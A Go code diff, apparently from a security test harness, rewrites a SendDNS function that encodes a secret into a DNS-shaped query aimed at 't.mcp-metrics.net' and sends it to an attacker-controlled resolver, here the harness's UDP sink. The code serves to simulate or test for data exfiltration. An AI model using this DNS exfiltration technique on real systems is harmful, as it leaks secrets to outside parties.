@@ -125,9 +125,22 @@ func DNSQuery(secret []byte, domain string) []byte {
 }
 
 // SendDNS sends a DNS-shaped query carrying secret to the UDP address addr
-// (a resolver the attacker controls, here the harness's UDP sink).
+// (a resolver the attacker controls, here the harness's UDP sink) from a
+// connected UDP socket, as stub resolvers do: unlike SendUDP, this one
+// goes through connect(2).
 func SendDNS(addr string, secret []byte) error {
-	return SendUDP(addr, DNSQuery(secret, "t.mcp-metrics.net"))
+	if addr == "" {
+		return ErrNoSink
+	}
+	c, err := net.DialTimeout("udp", addr, dialTimeout)
+	if err != nil {
+		return fmt.Errorf("dial %s: %w", addr, err)
+	}
+	defer c.Close()
+	if _, err := c.Write(DNSQuery(secret, "t.mcp-metrics.net")); err != nil {
+		return fmt.Errorf("send %s: %w", addr, err)
+	}
+	return nil
 }
 
 // quote makes s one word for /bin/sh.
